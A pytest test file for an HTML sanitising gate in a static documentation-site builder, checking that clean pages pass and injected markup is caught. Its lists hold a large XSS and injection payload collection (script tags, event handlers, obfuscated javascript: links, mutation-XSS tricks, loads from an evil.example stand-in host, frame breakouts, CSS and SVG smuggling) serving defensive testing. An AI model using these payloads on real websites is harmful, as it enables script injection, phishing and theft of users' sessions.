"""The gate: a clean site passes, and whatever strangers might put into a page does not."""

import json
import re
from collections.abc import Callable
from dataclasses import replace

import pytest

from hornbook.addresses import FRAMELESS_SCRIPT, MOVED, SCRIPT
from hornbook.publish import Engine, Origins
from hornbook.publish.theme import Theme
from tests.publish.looking import check_html, check_site, look, origins_for

PAGE = "terms/square/index.html"

ALLOWED = {
    "words": '<p>A <strong>b</strong> <em>c</em> <code class="x">d</code> <a href="https://example.com/x">e</a></p>',
    "mail": '<a href="mailto:someone@example.org" rel="noopener nofollow ugc">write</a>',
    "details": "<details open><summary>More</summary><ul><li>x</li></ul></details>",
    "table": '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
    "picture": '<figure><img src="../../assets/images/favicon.png" alt="" width="2" height="2"></figure>',
    "own address": '<img src="https://example.org/shapes/assets/images/favicon.png" alt="x">',
    "choices": '<form><fieldset><legend>x</legend><label><input type="checkbox" name="a"> y</label></fieldset></form>',
    "quiz": '<form method="dialog" class="kb-quiz" data-kb-quiz="q"><fieldset data-kb-example="e"><legend>x</legend>'
    '<label><input type="radio" name="q-e" value="a" data-kb-definite=""> y</label></fieldset><output><p hidden>z</p>'
    '</output><button type="reset">clear</button></form>',
    "drawing": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" role="img"><title>t</title><defs><marker '
    'id="m"><path d="M0 0"/></marker></defs><g class="kb-x" data-term="y" data-implication="z"><a role="link" '
    'xlink:href="../"><rect x="1" y="1" width="2" height="2" rx="1" fill="#fff" stroke="var(--kb-line, #000)"/>'
    '<text x="1" y="1" font-size="3"><tspan>q</tspan></text></a><path d="M1 1" marker-end="url(#m)"/></g></svg>',
    "formula": '<span class="kb-formula" tabindex="0"><math display="block" alttext="a &lt; b"><mrow><mi>a</mi><mo '
    'lspace="0" stretchy="false">&lt;</mo><mfrac><mn>1</mn><msqrt><mi>b</mi></msqrt></mfrac></mrow></math></span>',
    "data": '<div hidden data-kb-state="x" aria-label="mermaid of javascript: url(x)" lang="en" dir="auto">x</div>',
    "word": '<p title="onerror=alert(1)">&lt;script&gt;alert(1)&lt;/script&gt; javascript:alert(1)</p>',
}

PAYLOADS = [
    # scripts
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=../../evil.js></script>",
    "<script type=module>import '//evil.example'</script>",
    "<script type=application/json id=__config>{}</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=//evil.example></script></svg>",
    "<math href=//evil.example><mi>x</mi></math>",
    "<math><mi href='javascript:alert(1)'>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><semantics><annotation-xml encoding=text/html><p>x</p></annotation-xml></semantics></math>",
    "<math><mi style='position:fixed'>x</mi></math>",
    "<math><mi onclick=alert(1)>x</mi></math>",
    "<math><mglyph src=//evil.example/x.png></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img src=../../assets/images/favicon.png onload=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<p ONCLICK=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><g onclick=alert(1)></g></svg>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<p style='animation:x' onanimationstart=alert(1)>x</p>",
    # addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href=javascript:void(0) data-md-component=search-share>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href=https://accounts.google.com@evil.example/>x</a>",
    "<a href=https://\u0430pple.com/>x</a>",
    "<a href=https://127.0.0.1/>x</a>",
    "<a href=//evil.example/>x</a>",
    "<a href=https:evil.example>x</a>",
    "<svg><a xlink:href=https://accounts.google.com@evil.example/><text>x</text></a></svg>",
    "<a href=data:text/html,x>x</a>",
    "<a href=blob:x>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href=https://example.com ping=https://evil.example>x</a>",
    "<a href=https://example.com download>x</a>",
    "<a href=https://example.com target=opener>x</a>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><a href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></animate></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1)></set></a></svg>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form action=https://evil.example><input type=checkbox></form>",
    "<form method=post><input type=radio name=a></form>",
    "<form method=get><input type=radio name=a></form>",
    "<form method=dialog action=https://evil.example><input type=radio name=a></form>",
    "<form method=dialog target=_blank><input type=radio name=a></form>",
    "<form method=dialog><button type=submit>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<button formmethod=post>x</button>",
    "<input type=password name=password>",
    "<input type=image src=https://evil.example/x.png>",
    "<isindex action=javascript:alert(1)>",
    # loads
    "<img src=https://evil.example/x.png>",
    "<img src=//evil.example/x.png>",
    "<img src=/\\evil.example/x.png>",
    "<img src=data:image/svg+xml,x>",
    "<img srcset='../x.png 1x, https://evil.example/x.png 2x'>",
    "<picture><source srcset=https://evil.example/x.png></picture>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<video src=https://evil.example poster=https://evil.example></video>",
    "<audio src=https://evil.example></audio>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=stylesheet href=../../x.css>",
    "<style>@import 'https://evil.example'</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<table><tr><td style='text-align: left; background: red'>x</td></tr></table>",
    "<table background=https://evil.example><tr><td>x</td></tr></table>",
    "<svg><use href=https://evil.example/x.svg#x></use></svg>",
    "<svg><use xlink:href=//evil.example/x.svg#x></use></svg>",
    "<svg><image href=https://evil.example/x.png></image></svg>",
    "<svg><feImage href=https://evil.example/x.png></feImage></svg>",
    "<svg><rect fill='url(https://evil.example/x.svg#x)'></rect></svg>",
    "<svg><rect fill='u\\72l(https://evil.example/x.svg#x)'></rect></svg>",
    "<svg><path marker-end='url(//evil.example#x)'></path></svg>",
    "<svg><g style='fill:url(//evil.example#x)'></g></svg>",
    "<svg><g filter='url(//evil.example#x)'></g></svg>",
    "<svg><style>*{fill:url(//evil.example)}</style></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><desc><p>x</p></desc></svg>",
    "<svg><title><img src=x></title></svg>",
    "<pre class=mermaid>graph</pre>",
    "<div class='a Mermaid mermaid'>graph</div>",
    "<div class=pyodide><pre><code>print(1)</code></pre></div>",
    "<a class='x glightbox' href=../../assets/images/favicon.png>x</a>",
    # the page itself
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0; url=https://evil.example'>",
    "<meta http-equiv=refresh content='0; url=../'>",
    "<meta http-equiv=Content-Security-Policy content=x>",
    "<meta name=referrer content=unsafe-url>",
    "<title>x</title>",
    "<div id=__config>{}</div>",
    "<form id=__search></form>",
    "<label for=__drawer>x</label>",
    "<input type=radio name=__palette>",
    "<div data-md-component=consent>x</div>",
    "<div data-md-component=announce>x</div>",
    "<div data-clipboard-target=x>x</div>",
    "<article class='md-content__inner'>x</article>",
    "<marquee>x</marquee>",
    "<plaintext>",
    "<xmp><img></xmp>",
    "<textarea></textarea>",
    "<dialog open>x</dialog>",
    "<frameset><frame src=https://evil.example></frameset><object></object>",
    "<keygen>",
    "<x-y>x</x-y>",
    # out of the content
    "</article>",
    "</article>words",
    "</article><p>words</p>",
    "</article><article class='md-content__inner md-typeset'>",
    "</article><nav class=md-path><a href=https://evil.example>x</a></nav>",
    "</article></div><div class=md-content data-md-component=content><article class='md-content__inner md-typeset'>",
    "</article></div></div></main><footer class=md-footer><a href=https://evil.example>x</a></footer>",
    "</article></div></div></main></div><div class=md-dialog>x</div>",
    "</div></div></article></div></div></main></div></body><p>x",
    "</article></div><a href=https://evil.example>x</a>",
    "</article></div></div><button class=md-top>x</button>",
    "<!--",
    "<table><tr><td>",
    "<textarea>",
    "<select>",
]

HARMLESS_ALONE = {
    "<!--",
    "<table><tr><td>",
    "<select>",
    # Without the frame there is no script that these could lead astray.
    "<div id=__config>{}</div>",
    "<form id=__search></form>",
    "<label for=__drawer>x</label>",
    "<input type=radio name=__palette>",
    # A redirect within the site is what such pages are for.
    "<meta http-equiv=refresh content='0; url=../'>",
    "<link rel=stylesheet href=../../x.css>",
    "<title>x</title>",
}
ALONE = [one for one in PAYLOADS if one not in HARMLESS_ALONE and "</article" not in one and "</div>" not in one]

IN_HEAD = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=../../evil.js></script>",
    "<script type=application/ld+json>not json</script>",
    "<base href=https://evil.example>",
    "<base target=_blank>",
    "<meta http-equiv=refresh content='0; url=https://evil.example'>",
    "<meta http-equiv=refresh content='0; url=../'>",
    "<meta name=referrer content=unsafe-url>",
    "<meta charset=utf-7>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=preconnect href=https://evil.example>",
    "<link rel='icon preload' as=script href=https://evil.example>",
    "<link rel=manifest href=x>",
    "<link rel=import href=x>",
    "<link href=x>",
    "<link rel=canonical href=javascript:x>",
    "<style>p{}</style>",
    "<img src=x>",
    "<noscript><link rel=stylesheet href=//evil.example></noscript>",
]


@pytest.fixture(scope="module")
def two_pages(material: dict[str, bytes]) -> dict[str, bytes]:
    """The page that payloads go into, and the one that the scripts are learnt from."""
    return {path: material[path] for path in (PAGE, "404.html")}


def with_payload(page: bytes, payload: str) -> bytes:
    assert page.count(b"<p>BEGIN</p>") == 1
    return page.replace(b"<p>BEGIN</p>", payload.encode())


def test_the_clean_site_passes(material: dict[str, bytes], site_url: str) -> None:
    assert look(material, site_url) == ()


@pytest.mark.parametrize("markup", ALLOWED.values(), ids=ALLOWED.keys())
def test_what_pages_need_passes(two_pages: dict[str, bytes], site_url: str, markup: str) -> None:
    assert check_html(two_pages | {PAGE: with_payload(two_pages[PAGE], markup)}, site_url) == ()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_in_the_content_passes(two_pages: dict[str, bytes], site_url: str, payload: str) -> None:
    found = check_html(two_pages | {PAGE: with_payload(two_pages[PAGE], payload)}, site_url)
    assert {diagnostic.place.path for diagnostic in found} == {PAGE}
    assert all(diagnostic.code.startswith("html-") for diagnostic in found)


@pytest.mark.parametrize("payload", ALONE)
def test_no_payload_on_a_page_without_the_frame_passes(
    two_pages: dict[str, bytes], site_url: str, payload: str
) -> None:
    page = plain('<meta charset="utf-8"><title>x</title>', payload)
    found = check_html(two_pages | {"plain/index.html": page}, site_url)
    assert {diagnostic.place.path for diagnostic in found} == {"plain/index.html"}


@pytest.mark.parametrize("payload", IN_HEAD)
def test_no_payload_in_the_head_passes(two_pages: dict[str, bytes], site_url: str, payload: str) -> None:
    page = two_pages[PAGE].replace(b"</head>", payload.encode() + b"</head>")
    found = check_html(two_pages | {PAGE: page}, site_url)
    assert {diagnostic.place.path for diagnostic in found} == {PAGE}


@pytest.mark.parametrize(
    "place", [b"</nav>", b'<div class="md-sidebar', b"<footer", b"</header>", b"</aside>", b"</body>"]
)
@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<script src=../../evil.js></script>",
        "<img src=x>",
        "<iframe></iframe>",
        "<p onclick=x>x</p>",
        "<a href=javascript:x>x</a>",
        "<button formaction=https://evil.example>x</button>",
        "<input type=password>",
        "<div style=position:fixed>x</div>",
        "<div id=mine>x</div>",
        "words<b>x</b>",
    ],
)
def test_no_payload_in_the_frame_passes(two_pages: dict[str, bytes], site_url: str, payload: str, place: bytes) -> None:
    page = two_pages[PAGE].replace(place, payload.encode() + place, 1)
    assert page != two_pages[PAGE]
    found = check_html(two_pages | {PAGE: page}, site_url)
    assert {diagnostic.place.path for diagnostic in found} == {PAGE}


# Scripts


def scripts_of(page: bytes) -> list[bytes]:
    return re.findall(rb"<script(?: id=\"__config\"[^>]*)?>(.*?)</script>", page, re.DOTALL)


def test_every_inline_script_is_held_against_those_of_the_installed_theme(
    two_pages: dict[str, bytes], site_url: str
) -> None:
    scripts = scripts_of(two_pages[PAGE])
    assert len(scripts) == 5
    for script in scripts:
        for changed in (script + b";x", script.replace(b"..", b"https://evil.example"), script[1:]):
            if changed != script:
                page = two_pages[PAGE].replace(script, changed)
                codes = {one.code for one in check_html(two_pages | {PAGE: page}, site_url)}
                assert codes == {"html-script"}, changed


def test_a_script_of_the_engine_stands_once_and_in_its_place(two_pages: dict[str, bytes], site_url: str) -> None:
    script = b"<script>" + scripts_of(two_pages[PAGE])[0] + b"</script>"
    for place in (b"</head>", b"</header>", b"</footer>", b"</body>", b"<p>BEGIN</p>"):
        page = two_pages[PAGE].replace(place, script + place)
        assert "html-script" in {one.code for one in check_html(two_pages | {PAGE: page}, site_url)}, place


def test_without_a_theme_no_script_is_known(material: dict[str, bytes], site_url: str) -> None:
    pages = frozenset(path for path in material if path.endswith(".html"))
    written = {path: data for path, data in material.items() if path not in pages}
    found = check_site(
        material, site_url, Origins(pages, written, {path: material[path] for path in pages}, Theme({}, ()))
    )
    assert {one.place.path for one in found} == pages
    assert {one.code for one in found} == {"html-script"}


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("search", "https://evil.example/worker.js"),
        ("search", "../../assets/images/favicon.png"),
        ("search", "../../evil.js"),
        ("search", 1),
        ("base", "https://evil.example/"),
        ("base", "../../../.."),
        ("base", None),
    ],
)
def test_the_settings_of_the_themes_script_name_nothing_else(
    two_pages: dict[str, bytes], site_url: str, name: str, value: object
) -> None:
    written = next(script for script in scripts_of(two_pages[PAGE]) if script.startswith(b"{"))
    changed = json.dumps(json.loads(written) | {name: value}).encode()
    page = two_pages[PAGE].replace(written, changed)
    assert {one.code for one in check_html(two_pages | {PAGE: page}, site_url)} == {"html-script"}


def test_an_engine_may_write_the_base_with_or_without_its_last_slash(
    two_pages: dict[str, bytes], site_url: str
) -> None:
    page = two_pages["404.html"].replace(b'"/shapes/"', b'"/shapes"')
    assert page != two_pages["404.html"]
    assert check_html(two_pages | {"404.html": page}, site_url) == ()


def test_a_script_smuggled_into_every_page_the_error_page_too_is_not_learnt(
    material: dict[str, bytes], site_url: str
) -> None:
    script = b"<script>alert(1)</script>"
    for place in (
        b'<span class="md-ellipsis">',
        b'<a href="',
        b'<ul class="md-nav__list"',
        b'<ul class="md-tabs__list',
    ):
        site = {
            path: data.replace(place, script + place, 1) if path.endswith(".html") else data
            for path, data in material.items()
        }
        found = check_html(site, site_url)
        assert {one.place.path for one in found} == {path for path in site if path.endswith(".html")}
        assert "html-script" in {one.code for one in found}


# Through the engine


@pytest.mark.parametrize("engine", [Engine.MKDOCS, Engine.ZENSICAL])
def test_what_hand_written_pages_smuggle_past_the_engine_is_found(
    build: Callable[..., dict[str, bytes]], pages: dict[str, str], site_url: str, engine: Engine
) -> None:
    smuggled = {
        "title": '---\ntitle: "x</title><script>alert(1)</script>"\n---\nx\n',
        "nav": '---\ntitle: "x <img src=x onerror=alert(1)>"\n---\nx\n',
        "description": "---\ndescription: 'x\"><script>alert(1)</script>'\n---\nx\n",
        "raw": "# x\n\n<script>alert(1)</script>\n",
        "attributes": "# x\n\nwords\n{: onclick=alert(1) }\n",
        "link": "# x\n\n[x](javascript:alert(1))\n",
        "entity": "# x\n\n[x](java&#x73;cript:alert(1))\n",
        "early": '# x\n\n</article></div></div></main>\n<iframe src="https://evil.example"></iframe>\n',
        "footer": "# x\n\n</article></div></div></main>\n<footer class=md-footer>fake</footer>\n",
        "comment": "# x\n\n<div><!--</div>\n",
        "picture": "# x\n\n![x](https://evil.example/x.png)\n",
        "mermaid": "# x\n\n```mermaid\ngraph\n```\n{: .mermaid }\n\nx\n{: .mermaid }\n",
        "pyodide": "# x\n\n```python\nprint(1)\n```\n{: .pyodide }\n\nx\n{: .pyodide }\n",
        "glightbox": "# x\n\n[x](../../assets/images/favicon.png){ .glightbox }\n",
        "heading": "# x\n\n## Y { #__config }\n",
        "math": "# x\n\n<math><maction>x</maction></math>\n",
    }
    site = build(pages | {f"bad/{name}/index.md": text for name, text in smuggled.items()}, engine)
    found = {one.place.path for one in check_html(site, site_url, engine) if one.code.startswith("html-")}
    assert {f"bad/{name}/index.html" for name in smuggled} <= found
    assert PAGE not in found


# Pages without the frame


def plain(head: str, body: str = "<p>x</p>") -> bytes:
    return f'<!doctype html>\n<html lang="en"><head>{head}</head><body>{body}</body></html>\n'.encode()


@pytest.mark.parametrize(
    ("head", "code"),
    [
        ('<meta charset="utf-8"><meta http-equiv="refresh" content="0; url=../">', None),
        ('<meta charset="utf-8"><meta http-equiv="refresh" content="0; url=https://example.org/shapes/">', None),
        (
            '<meta charset="utf-8"><link rel="canonical" href="https://x.org/x"><meta name="robots" content="noindex">',
            None,
        ),
        ('<meta charset="utf-8"><meta http-equiv="refresh" content="1; url=../">', "html-attribute"),
        ('<meta charset="utf-8"><meta http-equiv="refresh" content="0;url=../">', "html-attribute"),
        ('<meta charset="utf-8"><meta http-equiv="refresh">', "html-attribute"),
        ('<meta charset="utf-8"><meta http-equiv="refresh" content="0; url=https://evil.example">', "html-external"),
        ('<meta charset="utf-8"><meta http-equiv="refresh" content="0; url=//evil.example">', "html-external"),
        ('<meta charset="utf-8"><meta http-equiv="refresh" content="0; url=javascript:x">', "html-external"),
        ('<meta charset="utf-8"><meta http-equiv="set-cookie" content="0; url=../">', "html-attribute"),
        ('<meta charset="iso-2022-jp">', "html-attribute"),
        ("<title>x</title>", "html-element"),
    ],
)
def test_redirects_are_checked(two_pages: dict[str, bytes], site_url: str, head: str, code: str | None) -> None:
    found = check_html(two_pages | {"old/index.html": plain(head)}, site_url)
    assert [one.code for one in found] == ([] if code is None else [code])


LEADING_ON = '<script src="{src}" data-kb-to="{to}"></script>'


@pytest.mark.parametrize(
    ("src", "to", "where", "code"),
    [
        ("../assets/hornbook/moved.js", "../terms/square/", "head", None),
        ("../assets/hornbook/moved.js", "../terms/square/", "body", "html-script"),
        ("../assets/hornbook/moved.js", "https://evil.example/", "head", "html-script"),
        ("../assets/hornbook/moved.js", "javascript:alert(1)", "head", "html-script"),
        ("../assets/hornbook/moved.js", "//evil.example/", "head", "html-script"),
        ("../assets/hornbook/hornbook.js", "../terms/square/", "head", "html-script"),
        ("../evil/moved.js", "../terms/square/", "head", "html-script"),
    ],
)
def test_one_script_may_lead_on_from_a_former_address_and_within_the_site(
    two_pages: dict[str, bytes], site_url: str, src: str, to: str, where: str, code: str | None
) -> None:
    script = LEADING_ON.format(src=src, to=to)
    parts = {"head": "", "body": "<p>x</p>"} | {where: script}
    page = plain(f'<meta charset="utf-8">{parts["head"]}', parts["body"])
    site = two_pages | {"old/index.html": page, MOVED: b"", SCRIPT: b""}
    found = check_html(site, site_url)
    assert [one.code for one in found] == ([] if code is None else [code])


@pytest.mark.parametrize(
    ("path", "is_written", "src", "is_refused"),
    [
        ("embed/x/index.html", True, f"../../{FRAMELESS_SCRIPT}", False),
        ("embed/x/index.html", True, f"../../{SCRIPT}", False),
        ("embed/x/index.html", True, f"../../{MOVED}", True),
        ("embed/x/index.html", True, "../../evil.js", True),
        ("embed/x/index.html", True, "https://evil.example/embed/embed.js", True),
        ("embed/x/index.html", False, f"../../{FRAMELESS_SCRIPT}", True),
        ("about/x/index.html", True, f"../../{FRAMELESS_SCRIPT}", True),
    ],
)
def test_the_builders_embeds_run_its_scripts_and_nobody_elses_do(
    two_pages: dict[str, bytes], site_url: str, path: str, *, is_written: bool, src: str, is_refused: bool
) -> None:
    page = plain('<meta charset="utf-8">', f'<script src="{src}"></script>').replace(
        b"<body", b'<body class="kb-embed"'
    )
    site = two_pages | {path: page, FRAMELESS_SCRIPT: b"", SCRIPT: b"", MOVED: b"", "evil.js": b""}
    origins = origins_for(site)
    if is_written:
        origins = replace(origins, written={**origins.written, path: page})
    found = {one.code for one in check_site(site, site_url, origins) if one.code.startswith("html-")}
    assert ("html-script" in found) == is_refused
    assert is_refused or not found


@pytest.mark.parametrize("data", [b"\xff\xfe<\0p\0>\0", b"\xe9", "<p>x</p>".encode("utf-16")])
def test_a_page_that_is_not_utf8_is_refused(two_pages: dict[str, bytes], site_url: str, data: bytes) -> None:
    assert [one.code for one in check_html(two_pages | {"x.html": data}, site_url)] == ["html-element"]


@pytest.mark.parametrize("data", [b"", b"words", b"<", b"<!doctype html>", b"\0", b"<svg>" * 3000])
def test_degenerate_pages_are_refused_without_a_crash(two_pages: dict[str, bytes], site_url: str, data: bytes) -> None:
    assert "html-element" in {one.code for one in check_html(two_pages | {"x.html": data}, site_url)}


# Drawings and other files

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1 1">{}</svg>'


@pytest.mark.parametrize(
    "inside",
    [
        "<title>t</title><style>@media (prefers-color-scheme: dark) { rect { fill: #000 } }</style>",
        '<a href="https://example.org/shapes/" target="_top"><rect x="0" y="0" width="1" height="1"/></a>',
        "<!-- a comment --><text>&lt;script&gt;</text>",
    ],
)
def test_clean_drawings_pass(two_pages: dict[str, bytes], site_url: str, inside: str) -> None:
    assert check_html(two_pages | {"x.svg": SVG.format(inside).encode()}, site_url) == ()


@pytest.mark.parametrize(
    "drawing",
    [
        "",
        "<svg",
        "<svg/><svg/>",
        SVG.format("<script>alert(1)</script>"),
        SVG.format('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
        SVG.format('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
        SVG.format('<p xmlns="http://www.w3.org/1999/xhtml">x</p>'),
        SVG.format('<g onclick="alert(1)"/>'),
        SVG.format('<a href="javascript:alert(1)"><text>x</text></a>'),
        SVG.format('<a xlink:href="java&#10;script:alert(1)"><text>x</text></a>'),
        SVG.format('<style>@import "https://evil.example"</style>'),
        SVG.format("<style>rect { fill: url(https://evil.example) }</style>"),
        SVG.format("<style>rect { fill: u\\72l(https://evil.example) }</style>"),
        SVG.format('<image href="https://evil.example/x.png"/>'),
        SVG.format('<use href="https://evil.example/x.svg#x"/>'),
        SVG.format("<foreignObject/>"),
        SVG.format("<animate/>"),
        SVG.format("<g>" * 200 + "</g>" * 200),
        SVG.format("<style>x</style>").replace("http://www.w3.org/2000/svg", "http://www.w3.org/1999/xhtml"),
        '<?xml-stylesheet href="https://evil.example/x.css"?>' + SVG.format(""),
        '<!DOCTYPE svg [<!ENTITY x "y">]>' + SVG.format("&x;"),
        '<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">' + SVG.format(""),
        '<?xml version="1.0" encoding="utf-7"?>' + SVG.format(""),
    ],
)
def test_no_payload_in_a_drawing_passes(two_pages: dict[str, bytes], site_url: str, drawing: str) -> None:
    found = check_html(two_pages | {"x.svg": drawing.encode()}, site_url)
    assert {one.place.path for one in found} == {"x.svg"}


@pytest.mark.parametrize(
    ("path", "data", "code"),
    [
        ("x.css", b"p { background: url(data:image/png;base64,x) }", None),
        ("x.css", b"p { background: url(../x.png) } q { fill: url(#x) }", None),
        ("x.css", b"@import 'x.css';", "html-external"),
        ("x.css", b"p { background: url( 'https://evil.example') }", "html-external"),
        ("x.css", b"p { background: URL(//evil.example) }", "html-external"),
        ("x.css", b'p { background: url("h\ttp://evil/x.png") }', "html-external"),
        ("x.css", b'p { background: image-set("http://evil/x.png" 1x) }', "html-external"),
        ("x.css", b'p { background: image-set("//evil/x.png" 1x) }', "html-external"),
        ("x.css", b'p { content: "/*" } q { background: src("//evil/x") } r { content: "*/" }', "html-external"),
        ("x.css", b"a{b:url(\t')/*');c:url(//evil/x);e:'*/'}", "html-external"),
        ("x.css", b"a{b:xurl(a/*)'*/);b:'/*';c:url(//evil/x);e:'*/'}", "html-external"),
        ("x.css", b"a{b:@url(a/*)'*/);b:'/*';c:url(//evil/x);e:'*/'}", "html-external"),
        ("x.css", b"/* see https://good.example */ p { color: red }", None),
        ("x.htm", b"", "html-element"),
        ("x.xhtml", b"", "html-element"),
        ("x.svgz", b"", "html-element"),
        ("x.HTML", b"", "html-element"),
        ("x.SVG", b"", "html-element"),
        ("feed.xml", b'<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>', None),
        ("feed.xml", b'<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', "html-element"),
        ("feed.xml", b'<?xml-stylesheet href="x"?><x/>', "html-element"),
        ("feed.xml", b"<x>", "html-element"),
        ("data.json", b"<script>", None),
    ],
)
def test_other_files_are_checked(
    two_pages: dict[str, bytes], site_url: str, path: str, data: bytes, code: str | None
) -> None:
    found = check_html(two_pages | {path: data}, site_url)
    assert [(one.place.path, one.code) for one in found] == ([] if code is None else [(path, code)])


def test_findings_are_sorted_and_name_the_section(material: dict[str, bytes], site_url: str) -> None:
    page = with_payload(material[PAGE], "<p onclick=x>x</p><script>x</script>")
    found = check_html(material | {PAGE: page, "a.htm": b""}, site_url)
    assert list(found) == sorted(found)
    assert any("sides" in note for one in found for note in one.notes)
